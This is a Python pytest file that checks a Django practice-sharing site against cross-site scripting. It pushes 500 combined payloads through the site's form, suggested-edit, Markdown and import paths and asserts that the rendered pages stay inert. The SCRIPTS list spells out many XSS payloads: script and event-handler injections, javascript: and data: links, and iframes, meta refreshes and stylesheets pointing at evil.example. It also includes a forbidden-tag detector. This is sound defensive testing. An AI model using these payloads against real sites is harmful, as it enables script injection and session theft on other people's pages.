"""500 attacks through every door by which a text of others comes in: form, suggested edit, Markdown, import.

There is no public API that writes (`test_there_is_no_other_door`), so there is none to attack. What is looked at is the
page as a reader gets it, parsed as a browser would parse it: nothing on it may run, load or restyle.
"""

from __future__ import annotations

import itertools
import random
import re
import uuid

import pytest
from bs4 import BeautifulSoup
from django.core.cache import cache
from django.core.management import call_command
from django.test import Client
from django.urls import get_resolver

from hub.editorial.markdown import blocks
from hub.editorial.markdown.writing import to_blocks
from hub.kernel.clean import rich_text
from hub.practices.domain import proposals, suggestions
from hub.practices.models import PracticePage
from tests.factories import MemberProfileFactory, PracticePageFactory

pytestmark = pytest.mark.django_db

SCRIPTS = [
    "<script>hit()</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>hit()</scr</script>ipt>",
    "<svg/onload=hit()>", "<svg><script>hit()</script></svg>", "<math><mtext><script>hit()</script></mtext></math>",
    "<img src=x onerror=hit()>", "<img/src=`x`onerror=hit()>", "<body onload=hit()>", "<details open ontoggle=hit()>",
    "<input autofocus onfocus=hit()>", "<video><source onerror=hit()></video>", "<p onclick='hit()'>words</p>",
    "<a href='javascript:hit()'>words</a>", "<a href=' &#106;avascript:hit()'>words</a>",
    "<a href='java\tscript:hit()'>words</a>", "<a href='data:text/html,<script>hit()</script>'>words</a>",
    "<a href='vbscript:hit()'>words</a>", "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>hit()</script>'></iframe>", "<object data=https://evil.example></object>",
    "<embed src=https://evil.example>", "<frameset><frame src=https://evil.example></frameset>",
    "<base href=https://evil.example>", "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<form action=https://evil.example><button>x</form>",
    "<style>*{display:none}</style>", "<p style='position:fixed;inset:0'>words</p>",
    "<div style=background:url(//evil.example)>words</div>", "<b style=\"x:expression(hit())\">words</b>",
    "<template><script>hit()</script></template>", "<noscript><p title='</noscript><script>hit()</script>'>",
    "<textarea></textarea><script>hit()</script>", "<title><a title='</title><script>hit()</script>'>",
    "<!--><script>hit()</script>-->", "<![CDATA[<script>hit()</script>]]>", "<?xml ?><script>hit()</script>",
    "<a linktype='page' id='1' onclick=hit()>words</a>", "<embed embedtype='media' url='https://evil.example'>",
    "<embed embedtype='image' id='1' format='left' alt='x'>", "[words](javascript:hit())",
    "[words](<java script:hit()>)",
    "![x](javascript:hit())", "![x](https://evil.example/pixel.gif)", "[words](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:hit()>", "[words]: javascript:hit()\n\n[words]", "&lt;script&gt;hit()&lt;/script&gt;",
    '[words](https://ok.example/"onmouseover="hit())',
]  # fmt: skip
CARRIERS = [
    "{}", "words {} words", "- {}", "> {}", "## {}", "**{}**", "`{}`", "```\n{}\n```", "| a |\n|-|\n| {} |",
    "[[Table: x · {}]]", "<div>\n\n{}\n\n</div>", "1. one\n   {}", "{}\x00", "&#60;{}",
]  # fmt: skip
ATTACKS = [carrier.format(attack) for attack, carrier in itertools.product(SCRIPTS, CARRIERS)]
random.Random(4).shuffle(ATTACKS)
ATTACKS = ATTACKS[:500]
ON_ONE_PAGE = 20

FORBIDDEN = {
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input", "button",
    "textarea", "base", "link", "meta", "svg", "math", "template", "noscript", "video", "audio", "source", "title",
    "img",
}  # fmt: skip


def dangers(markup: str) -> list[str]:
    """Everything in a text of a page that runs, loads or restyles."""
    found = []
    for tag in BeautifulSoup(markup, "html.parser").find_all(True):
        if tag.name in FORBIDDEN:
            found.append(str(tag)[:120])
        for name, value in tag.attrs.items():
            address = re.sub(r"[\x00-\x20]", "", str(value)).lower()
            runs = name.startswith("on") or name in ("style", "srcdoc", "formaction")
            leads = name in ("href", "src", "action", "data", "poster", "xlink:href")
            if runs or (leads and not re.match(r"(https?:|mailto:|tel:|(?!//)[^:]*([/?#]|$))", address)):
                found.append(f"{tag.name} {name}={value}"[:120])
    return found


def texts_of(response) -> str:
    """The parts of a page that hold what people wrote; icons and search box of the frame are ours."""
    soup = BeautifulSoup(response.content.decode(), "html.parser")
    return "".join(str(part) for part in soup.select("main .prose, main .opening__gist, main h1, main .difference"))


def chunks():
    return [ATTACKS[start : start + ON_ONE_PAGE] for start in range(0, len(ATTACKS), ON_ONE_PAGE)]


def filled(chunk):
    """One page's worth of attacks, in every answer."""
    names = ("problem", "context", "what_we_did", "what_it_needs", "what_came_of_it")
    said = {name: "\n\n".join(chunk[number :: len(names)]) for number, name in enumerate(names)}
    return said | {"title": chunk[0].replace("\x00", "")[:200] or "x", "gist": chunk[1].replace("\x00", "")[:600]}


def test_the_measure_sees_what_is_dangerous():
    plain = [attack for attack in SCRIPTS if attack.startswith("<") and "linktype" not in attack]
    assert sum(bool(dangers(attack)) for attack in plain) > 30
    assert dangers('<p>Fine, <a href="https://ok.example">here</a> and <a href="/practices/">there</a>.</p>') == []
    assert len(ATTACKS) == 500 == len(set(ATTACKS))


def test_through_the_form_as_a_reader_gets_it(client, member):
    cache.clear()
    client.force_login(member, backend="django.contrib.auth.backends.ModelBackend")
    reader = Client()
    reader.force_login(MemberProfileFactory().user, backend="django.contrib.auth.backends.ModelBackend")
    for chunk in chunks():
        said = {name: text.replace("\x00", "") for name, text in filled(chunk).items()}  # Django refuses a NUL itself
        answer = client.post("/practices/propose/", {**said, "key": str(uuid.uuid4()), "do": "save"})
        assert answer.status_code == 302, answer.content[:300]
        page = PracticePage.objects.latest("pk")
        page.get_latest_revision().publish()
        read = reader.get(PracticePage.objects.get(pk=page.pk).url)
        assert read.status_code == 200
        assert dangers(texts_of(read)) == []
        assert "evil.example" not in re.sub(r">[^<]*<", "><", texts_of(read)).replace('href="https://evil.example', "")
        form = BeautifulSoup(client.get(answer["Location"]).content.decode(), "html.parser")
        assert [str(tag) for tag in form.select("main textarea *, main .example script")] == []
        cache.clear()
        page.delete()


def test_through_a_suggested_edit_as_whoever_answers_reads_it(staff):
    person = MemberProfileFactory().user
    practice = PracticePageFactory(gist="Before")
    decider = Client()
    decider.force_login(staff, backend="django.contrib.auth.backends.ModelBackend")
    for chunk in chunks():
        typed = {name: text.replace("\x00", "") for name, text in filled(chunk).items()}
        edit = suggestions.suggest(
            practice, user=person, key=uuid.uuid4(), typed=typed, note=chunk[0].replace("\x00", "")
        )
        shown = decider.get(edit.get_absolute_url())
        assert [danger for danger in dangers(texts_of(shown)) if "visually-hidden" not in danger] == []
    suggestions.take_over(edit, by=staff, names=list(edit.texts), is_named=False)
    for name in ("problem", "context", "what_we_did", "what_it_needs", "what_came_of_it"):
        assert dangers("".join(str(block) for block in getattr(proposals.draft_of(practice.pk), name))) == []


def leads(href):
    """Where a link may lead is the say of whoever converts; what has another scheme never gets that far."""
    assert not re.match(r"(javascript|data|vbscript):", href, re.IGNORECASE)
    return href if re.match(r"https?:|mailto:", href) else None


def test_through_markdown_with_nothing_around_it():
    for attack in ATTACKS:
        body = blocks.convert(attack, resolve=leads)
        stored = [{"type": block.type, "value": block.value, "id": str(uuid.uuid4())} for block in body.blocks]
        for block in [*stored, *to_blocks(attack, before=stored, resolve=leads)]:
            if block["type"] == "text":
                assert dangers(block["value"]) == [], attack
                assert rich_text(block["value"]) == block["value"]
            if block["type"] in ("video", "resource"):
                assert block["value"]["url"].startswith(("https://", "http://")), attack


def test_through_the_import(tmp_path):
    for number, chunk in enumerate(chunks()):
        text = "\n\n".join(chunk)
        (tmp_path / f"practice-{number}.md").write_text(f"---\ntitle: Practice {number}\n---\n\n## Problem\n\n{text}\n")
    call_command("import_markdown", str(tmp_path), "--as", "practices", verbosity=0)
    pages = PracticePage.objects.live()
    assert pages.count() == len(chunks())
    for page in pages:
        read = Client().get(page.url)
        assert read.status_code == 200
        assert dangers(texts_of(read)) == []


def test_there_is_no_other_door():
    """No address of the hub below which a program could write: the only API is the editor's own, behind its login."""
    routes = [str(pattern.pattern) for pattern in get_resolver().url_patterns]
    assert [route for route in routes if re.search(r"\b(api|graphql|rest)\b", route)] == []
